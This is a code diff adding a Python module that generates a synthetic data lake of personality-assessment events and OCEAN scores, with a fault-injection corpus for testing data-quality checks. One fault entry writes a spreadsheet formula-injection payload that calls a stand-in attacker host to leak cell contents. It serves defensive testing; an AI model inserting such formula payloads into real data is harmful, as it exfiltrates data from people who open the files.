@@ -1,0 +1,428 @@
+"""A deterministic synthetic lake: assessment events and OCEAN scores, laid out as the README's "The lake".
+
+Every later check and aggregate runs on this data, so it is shaped like the real thing:
+
+- **Vocabularies** come from the data contract (``contract.py``): what it allows, and nothing else.
+- **One event row = one assessment session.** ``assessment_type`` is one of ASSESSMENT_TYPES
+  (personality most common); ``device`` one of DEVICES, with a ``platform`` that fits it
+  (desktop -> web; mobile and tablet -> ios, android or the mobile web); ``version`` of the
+  assessment app from VERSIONS.
+- **Incomplete sessions**: 10-30 % of sessions are abandoned, more on mobile and on the long
+  assessments; their ``completion_time`` is 0 or NULL (both occur). Completed sessions take a
+  realistic time per type (the quick assessment about 5 minutes, the full one about 20).
+- **Users return**: a fixed pool of ``max(1000, 3 x events_per_day)`` users with skewed
+  activity, so that many users come back on later days and some take several assessments in a
+  day. Each user has a fixed industry, role, experience, region, age range and preferred device.
+- **OCEAN scores** (one row per completed session): the five traits on 0-100, from a stable
+  per-user profile whose mean depends on industry and role (e.g. Technology scores higher on
+  openness, Finance on conscientiousness, executives higher on extraversion and lower on
+  neuroticism), plus per-assessment noise. ``consistency`` and ``completeness`` are in [0, 1].
+- **facets**: the 30 NEO facets, six per trait, keyed ``<trait>.<facet>`` (FACETS), each a struct
+  ``score`` (0-100, around its trait), ``responses`` (items answered; fewer on the quick
+  assessment), ``std_dev`` (> 0).
+- **dark_side_indicators**: the eleven Hogan derailers (DARK_SIDE_INDICATORS) as risk scores on
+  0-100, correlated with the traits (excitable with neuroticism, bold with extraversion,
+  diligent with conscientiousness, ...).
+
+Determinism: a day's rows depend only on (seed, day, events_per_day); generating a day alone or
+inside a longer run gives the same files. Re-generating a day replaces exactly that day's files.
+Writes are atomic (hidden temporary name, then rename). Everything is vectorised with numpy and
+pyarrow; scores are written in row groups so memory stays bounded by a chunk, not the day.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import multiprocessing
+import os
+import time
+import uuid
+from collections.abc import Iterable
+from concurrent.futures import ProcessPoolExecutor
+from dataclasses import dataclass, field
+from functools import lru_cache
+from pathlib import Path
+
+import numpy as np
+import pyarrow as pa
+import pyarrow.compute as pc
+import pyarrow.parquet as pq
+
+from ioc_analytics.errors import ConfigError
+from ioc_analytics.lake.catalog import Table, load_catalog
+from ioc_analytics.lake.contract import (
+    AGE_RANGES,
+    ASSESSMENT_TYPES,
+    DARK_SIDE_INDICATORS,
+    DEVICES,
+    EXPERIENCE_LEVELS,
+    FACET_KEYS,
+    INDUSTRIES,
+    PLATFORMS,
+    REGIONS,
+    ROLES,
+    TRAITS,
+    VERSIONS,
+)
+
+# The vocabularies are the data contract's: the generator writes only what the contract allows.
+_TYPE_WEIGHTS = np.array([0.40, 0.25, 0.15, 0.10, 0.10])
+_TYPE_MEDIAN_S = np.array([1200, 300, 1500, 900, 1000])  # median completion time, seconds
+_TYPE_ABANDON = np.array([0.20, 0.10, 0.24, 0.18, 0.18])
+_TYPE_ITEMS_PER_FACET = np.array([8, 2, 6, 4, 4])
+_DEVICE_WEIGHTS = np.array([0.50, 0.40, 0.10])
+_DEVICE_ABANDON_FACTOR = np.array([0.8, 1.35, 1.0])
+_PLATFORM_GIVEN_DEVICE = np.array([[1.0, 0.0, 0.0], [0.10, 0.45, 0.45], [0.15, 0.60, 0.25]])
+_VERSION_WEIGHTS = np.array([0.2, 0.5, 0.3])
+
+# Trait means, as offsets from 50, by industry and by role (columns in TRAITS order).
+_INDUSTRY_OFFSETS = np.array([
+    [8, 0, -2, -2, 0],    # Technology
+    [-4, 8, 2, -3, 0],    # Finance
+    [0, 4, 0, 7, 2],      # Healthcare
+    [5, 2, 2, 5, 0],      # Education
+    [-2, -1, 6, 2, 2],    # Retail
+    [-5, 5, -3, 0, 0],    # Manufacturing
+    [-4, 5, -4, 2, 1],    # Government
+    [4, 3, 6, -1, -2],    # Consulting
+])
+_ROLE_OFFSETS = np.array([
+    [0, -2, -3, 1, 3],    # Individual Contributor
+    [1, 1, 2, 1, 1],      # Team Lead
+    [1, 3, 4, 0, -1],     # Manager
+    [2, 4, 6, -1, -3],    # Director
+    [3, 5, 9, -3, -6],    # Executive
+])
+# How each derailer loads on the traits' deviations from 50 (rows in DARK_SIDE_INDICATORS order).
+_DARK_SIDE_LOADINGS = np.array([
+    [0, 0, 0, -0.2, 0.7],     # excitable
+    [0, 0, 0, -0.6, 0.3],     # skeptical
+    [-0.2, 0, -0.4, 0, 0.5],  # cautious
+    [0, 0, -0.6, -0.3, 0],    # reserved
+    [0, -0.2, 0, -0.5, 0],    # leisurely
+    [0, 0, 0.6, -0.3, -0.2],  # bold
+    [0.3, -0.3, 0.4, -0.2, 0],  # mischievous
+    [0, 0, 0.7, 0, 0],        # colorful
+    [0.7, 0, 0.1, 0, 0],      # imaginative
+    [0, 0.7, 0, 0, 0.1],      # diligent
+    [0, 0.2, -0.2, 0.5, 0],   # dutiful
+])
+# When sessions start (UTC hour weights): a daytime peak across the regions.
+_HOUR_WEIGHTS = np.array([2, 1, 1, 1, 1, 2, 3, 4, 6, 7, 7, 7, 7, 8, 8, 8, 7, 7, 6, 5, 4, 4, 3, 3], dtype=float)
+
+EVENTS_FILE_MAX_ROWS = 2_000_000
+SCORES_CHUNK_ROWS = 250_000
+_DAY_MS = 86_400_000
+
+
+@dataclass
+class GenerateReport:
+    days: int = 0
+    events: int = 0
+    scores: int = 0
+    files: int = 0
+    bytes: int = 0
+    elapsed_s: float = 0.0
+    events_by_day: dict[str, int] = field(default_factory=dict)
+
+
+@dataclass(frozen=True)
+class _Users:
+    ids: pa.Array
+    weights: np.ndarray
+    industry: np.ndarray
+    role: np.ndarray
+    experience: np.ndarray
+    region: np.ndarray
+    age: np.ndarray
+    device: np.ndarray
+    traits: np.ndarray  # (users, 5) stable profile
+
+
+@lru_cache(maxsize=4)
+def _user_pool(seed: int, events_per_day: int) -> _Users:
+    size = max(1000, 3 * events_per_day)
+    rng = np.random.default_rng(np.random.SeedSequence([seed, size, 0x10C]))
+    role = rng.choice(len(ROLES), size, p=[0.50, 0.20, 0.17, 0.09, 0.04])
+    # Seniority goes with experience: shift the experience bucket up with the role.
+    experience = np.clip(rng.choice(len(EXPERIENCE_LEVELS), size, p=[0.25, 0.3, 0.25, 0.15, 0.05]) + role // 2,
+                         0, len(EXPERIENCE_LEVELS) - 1)
+    industry = rng.choice(len(INDUSTRIES), size, p=[0.22, 0.14, 0.13, 0.11, 0.12, 0.10, 0.08, 0.10])
+    traits = 50 + _INDUSTRY_OFFSETS[industry] + _ROLE_OFFSETS[role] + rng.normal(0, 11, (size, 5))
+    ids = pc.binary_join_element_wise(
+        "u-", pc.utf8_lpad(pc.cast(pa.array(np.arange(size)), pa.string()), 8, "0"), ""
+    )
+    return _Users(
+        ids=ids,
+        weights=(w := rng.pareto(1.5, size) + 0.05) / w.sum(),
+        industry=industry,
+        role=role,
+        experience=experience,
+        region=rng.choice(len(REGIONS), size, p=[0.35, 0.28, 0.22, 0.09, 0.06]),
+        age=rng.choice(len(AGE_RANGES), size, p=[0.10, 0.32, 0.27, 0.18, 0.10, 0.03]),
+        device=rng.choice(len(DEVICES), size, p=_DEVICE_WEIGHTS),
+        traits=traits,
+    )
+
+
+def _labels(vocabulary: tuple[str, ...], index: np.ndarray) -> pa.Array:
+    return pa.array(vocabulary, pa.string()).take(pa.array(index))
+
+
+def _ids(prefix: str, numbers: np.ndarray) -> pa.Array:
+    return pc.binary_join_element_wise(prefix, pc.utf8_lpad(pc.cast(pa.array(numbers), pa.string()), 8, "0"), "")
+
+
+def _write_atomic(path: Path, tables: Iterable[pa.Table] | pa.Table, schema: pa.Schema) -> int:
+    """Write row groups to a hidden temporary file, then rename it into place; return its size.
+    ``tables`` may be a generator: each table is written as it comes, so only one is in memory."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    temporary = path.parent / f".{path.name}.{uuid.uuid4().hex}.tmp"
+    with pq.ParquetWriter(temporary, schema, compression="snappy") as writer:
+        for table in [tables] if isinstance(tables, pa.Table) else tables:
+            writer.write_table(table, row_group_size=SCORES_CHUNK_ROWS)
+    os.replace(temporary, path)
+    return path.stat().st_size
+
+
+def _remove_stale(folder: Path, keep: set[str], pattern: str) -> None:
+    if folder.is_dir():
+        for old in folder.glob(pattern):
+            if old.name not in keep:
+                old.unlink()
+
+
+def _generate_day(day: dt.date, events_per_day: int, seed: int, users: _Users, events: Table,
+                  scores: Table, report: GenerateReport) -> None:
+    rng = np.random.default_rng(np.random.SeedSequence([seed, day.toordinal()]))
+    n = events_per_day
+    user = rng.choice(len(users.weights), n, p=users.weights)
+    kind = rng.choice(len(ASSESSMENT_TYPES), n, p=_TYPE_WEIGHTS)
+    device = np.where(rng.random(n) < 0.8, users.device[user], rng.choice(len(DEVICES), n, p=_DEVICE_WEIGHTS))
+    platform = (rng.random(n)[:, None] > _PLATFORM_GIVEN_DEVICE.cumsum(1)[device]).sum(1)
+    hour = rng.choice(24, n, p=_HOUR_WEIGHTS / _HOUR_WEIGHTS.sum())
+    start_ms = hour * 3_600_000 + rng.integers(0, 3_600_000, n)
+    abandoned = rng.random(n) < _TYPE_ABANDON[kind] * _DEVICE_ABANDON_FACTOR[device]
+    duration = np.maximum(30, rng.lognormal(np.log(_TYPE_MEDIAN_S[kind]), 0.35)).astype(np.int32)
+    null_time = abandoned & (rng.random(n) < 0.5)
+
+    order = np.argsort(start_ms, kind="stable")
+    user, kind, device, platform, start_ms, abandoned, duration, null_time = (
+        a[order] for a in (user, kind, device, platform, start_ms, abandoned, duration, null_time))
+    day_ms = (day - dt.date(1970, 1, 1)).days * _DAY_MS  # UTC midnight, whatever the machine's time zone
+    stamp = day.strftime("%Y%m%d")
+    numbers = np.arange(n)
+
+    completion = pa.array(np.where(abandoned, 0, duration).astype(np.int32), mask=null_time)
+    event_columns = {
+        "anonymous_user_id": users.ids.take(pa.array(user)),
+        "session_id": _ids(f"s-{stamp}-", numbers),
+        "assessment_id": _ids(f"a-{stamp}-", numbers),
+        "timestamp": pa.array(day_ms + start_ms, pa.int64()).cast(pa.timestamp("ms")),
+        "version": _labels(VERSIONS, rng.choice(len(VERSIONS), n, p=_VERSION_WEIGHTS)),
+        "completion_time": completion,
+        "device": _labels(DEVICES, device),
+        "platform": _labels(PLATFORMS, platform),
+        "age_range": _labels(AGE_RANGES, users.age[user]),
+        "industry": _labels(INDUSTRIES, users.industry[user]),
+        "role": _labels(ROLES, users.role[user]),
+        "experience": _labels(EXPERIENCE_LEVELS, users.experience[user]),
+        "region": _labels(REGIONS, users.region[user]),
+    }
+    day_table = pa.table(event_columns, schema=events.arrow_schema)
+    lake_date = day.strftime("%Y/%m/%d")
+    for k, assessment_type in enumerate(ASSESSMENT_TYPES):
+        folder = Path(events.partition_location({"date": lake_date, "assessment_type": assessment_type}))
+        rows = day_table.filter(pa.array(kind == k))
+        written = set()
+        for part, offset in enumerate(range(0, rows.num_rows, EVENTS_FILE_MAX_ROWS)):
+            name = f"part-{part:05d}.parquet"
+            report.bytes += _write_atomic(folder / name, rows.slice(offset, EVENTS_FILE_MAX_ROWS), events.arrow_schema)
+            report.files += 1
+            written.add(name)
+        _remove_stale(folder, written, "part-*.parquet")
+
+    done = np.flatnonzero(~abandoned)
+    # A generator: each chunk of score sets is written before the next is drawn.
+    chunks = (_score_chunk(rng, done[i:i + SCORES_CHUNK_ROWS], user, kind, start_ms, duration, day_ms, users,
+                           event_columns, scores)
+              for i in range(0, len(done), SCORES_CHUNK_ROWS))
+    month_folder = Path(scores.partition_location({"year": day.strftime("%Y"), "month": day.strftime("%m")}))
+    score_file = month_folder / f"part-{stamp}.parquet"
+    if len(done):
+        report.bytes += _write_atomic(score_file, chunks, scores.arrow_schema)
+        report.files += 1
+    elif score_file.exists():
+        score_file.unlink()
+    report.events += n
+    report.scores += len(done)
+    report.events_by_day[day.isoformat()] = n
+
+
+def _score_chunk(rng: np.random.Generator, rows: np.ndarray, user: np.ndarray, kind: np.ndarray,
+                 start_ms: np.ndarray, duration: np.ndarray, day_ms: int, users: _Users,
+                 event_columns: dict[str, pa.Array], scores: Table) -> pa.Table:
+    m = len(rows)
+    who = user[rows]
+    quick = kind[rows] == ASSESSMENT_TYPES.index("personality_quick")
+    noise = np.where(quick[:, None], 7.0, 4.0)
+    traits = np.clip(users.traits[who] + rng.normal(0, 1, (m, 5)) * noise, 0, 100).round(1)
+
+    # facets: six per trait around the trait score; responses depend on the assessment's length
+    facet_scores = np.clip(np.repeat(traits, 6, axis=1) + rng.normal(0, 6, (m, 30)), 0, 100).round(1)
+    items = _TYPE_ITEMS_PER_FACET[kind[rows]][:, None]
+    responses = np.maximum(1, items - (rng.random((m, 30)) < 0.05)).astype(np.int32)
+    std_dev = (0.4 + rng.gamma(4.0, 0.15, (m, 30))).round(3)
+    facet_values = pa.StructArray.from_arrays(
+        [pa.array(facet_scores.ravel()), pa.array(responses.ravel()), pa.array(std_dev.ravel())],
+        names=["score", "responses", "std_dev"],
+    )
+    facets = pa.MapArray.from_arrays(
+        pa.array(np.arange(0, 30 * (m + 1), 30, dtype=np.int32)),
+        pa.array(FACET_KEYS).take(pa.array(np.tile(np.arange(30), m))),
+        facet_values,
+    )
+    dark = np.clip(50 + (traits - 50) @ _DARK_SIDE_LOADINGS.T + rng.normal(0, 8, (m, 11)), 0, 100).round(1)
+    dark_side = pa.MapArray.from_arrays(
+        pa.array(np.arange(0, 11 * (m + 1), 11, dtype=np.int32)),
+        pa.array(DARK_SIDE_INDICATORS).take(pa.array(np.tile(np.arange(11), m))),
+        pa.array(dark.ravel()),
+    )
+    consistency = np.where(quick, rng.beta(6, 3, m), rng.beta(9, 2, m)).round(4)
+    completeness = (1 - rng.beta(1, 40, m)).round(4)
+    finished_ms = np.minimum(start_ms[rows] + duration[rows].astype(np.int64) * 1000, _DAY_MS - 1)
+    take = pa.array(rows)
+    columns = {
+        "anonymous_user_id": event_columns["anonymous_user_id"].take(take),
+        "assessment_id": event_columns["assessment_id"].take(take),
+        "timestamp": pa.array(day_ms + finished_ms, pa.int64()).cast(pa.timestamp("ms")),
+        **{trait: pa.array(traits[:, i]) for i, trait in enumerate(TRAITS)},
+        "consistency": pa.array(consistency),
+        "completeness": pa.array(completeness),
+        "facets": facets,
+        "dark_side_indicators": dark_side,
+        "industry": event_columns["industry"].take(take),
+        "role": event_columns["role"].take(take),
+        "experience": event_columns["experience"].take(take),
+    }
+    return pa.table(columns, schema=scores.arrow_schema)
+
+
+def generate_lake(lake_root: str | Path, start: dt.date, days: int, events_per_day: int,
+                  seed: int = 42, workers: int = 1) -> GenerateReport:
+    """Write ``days`` days of events and scores from ``start`` into the lake folder.
+
+    Each day is drawn from its own seed, so ``workers`` processes (one day at a time each) write
+    the same lake as one; each holds a day and the user pool in memory (about 1.1 GiB plus 0.6 GiB
+    per million events a day).
+    """
+    if days < 1 or events_per_day < 1 or workers < 1:
+        raise ConfigError(f"--days ({days}), --events-per-day ({events_per_day}) and --workers ({workers}) "
+                          "must be at least 1")
+    root = Path(lake_root).expanduser().resolve()
+    if root.exists() and not root.is_dir():
+        raise ConfigError(f"the lake {root} is a file, not a folder: choose another --lake")
+    started = time.perf_counter()
+    catalog = load_catalog(str(root))
+    events, scores = catalog.table("assessment_events"), catalog.table("ocean_scores")
+    if set(events.enum_values("assessment_type")) != set(ASSESSMENT_TYPES):
+        raise ConfigError("the DDL's assessment_type projection enum and the contract's ASSESSMENT_TYPES differ")
+    dates = [start + dt.timedelta(days=offset) for offset in range(days)]
+    report = GenerateReport(days=days)
+    if workers == 1:
+        for day in dates:
+            _generate_day(day, events_per_day, seed, _user_pool(seed, events_per_day), events, scores, report)
+    else:
+        # spawned, not forked: a fork of a threaded caller (an Airflow task) can deadlock
+        with ProcessPoolExecutor(min(workers, days), mp_context=multiprocessing.get_context("spawn")) as pool:
+            for part in pool.map(_generate_one, [(root, day, events_per_day, seed) for day in dates]):
+                _merge(report, part)
+    report.elapsed_s = time.perf_counter() - started
+    return report
+
+
+def _generate_one(job: tuple[Path, dt.date, int, int]) -> GenerateReport:
+    """One day in a worker process."""
+    root, day, events_per_day, seed = job
+    catalog = load_catalog(str(root))
+    report = GenerateReport()
+    _generate_day(day, events_per_day, seed, _user_pool(seed, events_per_day), catalog.table("assessment_events"),
+                  catalog.table("ocean_scores"), report)
+    return report
+
+
+def _merge(report: GenerateReport, part: GenerateReport) -> None:
+    report.events += part.events
+    report.scores += part.scores
+    report.files += part.files
+    report.bytes += part.bytes
+    report.events_by_day.update(part.events_by_day)
+
+
+# -- fault injection: the bad-input corpus of the data-quality gates --------------------------
+
+
+def _set_value(table: pa.Table, column: str, row: int, value: object) -> pa.Table:
+    values = table[column].to_pylist()
+    values[row] = value
+    return table.set_column(table.schema.get_field_index(column), column, pa.array(values, table[column].type))
+
+
+def _drop_facet(table: pa.Table) -> pa.Table:
+    facets = table["facets"].to_pylist()
+    facets[0] = [kv for kv in facets[0] if kv[0] != FACET_KEYS[0]]
+    return table.set_column(table.schema.get_field_index("facets"), "facets", pa.array(facets, table["facets"].type))
+
+
+#: name -> (table it damages, what it does to the day's file). Events faults damage one
+#: assessment type's partition; score faults the day's file of scores.
+FAULTS = {
+    "null-id": ("assessment_events", lambda t: _set_value(t, "anonymous_user_id", 3, None)),
+    "negative-completion-time": ("assessment_events", lambda t: _set_value(t, "completion_time", 1, -5)),
+    "absurd-completion-time": ("assessment_events", lambda t: _set_value(t, "completion_time", 1, 999_999)),
+    "duplicate-events": ("assessment_events", lambda t: pa.concat_tables([t, t.slice(0, 2)])),
+    "outside-partition": ("assessment_events", lambda t: _set_value(
+        t, "timestamp", 2, t["timestamp"][2].as_py() + dt.timedelta(days=1))),
+    "unknown-device": ("assessment_events", lambda t: _set_value(t, "device", 0, "smart_fridge")),
+    "column-missing": ("assessment_events", lambda t: t.drop_columns(["region"])),
+    "column-added": ("assessment_events", lambda t: t.append_column("tracking_pixel", pa.array(["x"] * t.num_rows))),
+    "column-retyped": ("assessment_events", lambda t: t.set_column(
+        t.schema.get_field_index("completion_time"), "completion_time", t["completion_time"].cast(pa.string()))),
+    "empty-partition": ("assessment_events", lambda t: t.slice(0, 0)),
+    "not-parquet": ("assessment_events", None),
+    "formula-label": ("assessment_events", lambda t: _set_value(
+        t, "role", 0, '=HYPERLINK("http://attacker.example/?leak="&A1,"open")')),
+    "out-of-range-trait": ("ocean_scores", lambda t: _set_value(t, "openness", 0, 130.0)),
+    # Parquet writers leave NaN out of a column's min/max: the file's statistics look in range.
+    "nan-trait": ("ocean_scores", lambda t: _set_value(t, "openness", 0, float("nan"))),
+    "missing-facet": ("ocean_scores", _drop_facet),
+}
+
+
+def inject_fault(lake_root: str | Path, day: dt.date, fault: str, assessment_type: str = "personality") -> Path:
+    """Damage ``day`` of a generated lake with ``fault`` (see FAULTS); returns the file changed."""
+    if fault not in FAULTS:
+        raise ConfigError(f"{fault!r} is not a fault; choose one of {', '.join(FAULTS)}")
+    if assessment_type not in ASSESSMENT_TYPES:
+        raise ConfigError(f"{assessment_type!r} is not an assessment type; choose one of "
+                          f"{', '.join(ASSESSMENT_TYPES)}")
+    catalog = load_catalog(str(Path(lake_root).expanduser().resolve()))
+    table_name, change = FAULTS[fault]
+    table = catalog.table(table_name)
+    if table_name == "assessment_events":
+        folder = Path(table.partition_location({"date": day.strftime("%Y/%m/%d"), "assessment_type": assessment_type}))
+        target = folder / "part-00000.parquet"
+    else:
+        folder = Path(table.partition_location({"year": day.strftime("%Y"), "month": day.strftime("%m")}))
+        target = folder / f"part-{day:%Y%m%d}.parquet"
+    if not target.is_file():
+        raise ConfigError(f"{target} does not exist: generate {day} first (`ioc generate --start {day}`)")
+    if change is None:  # a CSV export dropped into the partition under a Parquet name
+        broken = folder / "part-99999.parquet"
+        broken.write_text("anonymous_user_id,session_id\nu-1,s-1\n")
+        return broken
+    damaged = change(pq.read_table(target))
+    tmp = target.with_name(f".{target.name}.fault")
+    pq.write_table(damaged, tmp, compression="snappy")
+    os.replace(tmp, target)
+    return target
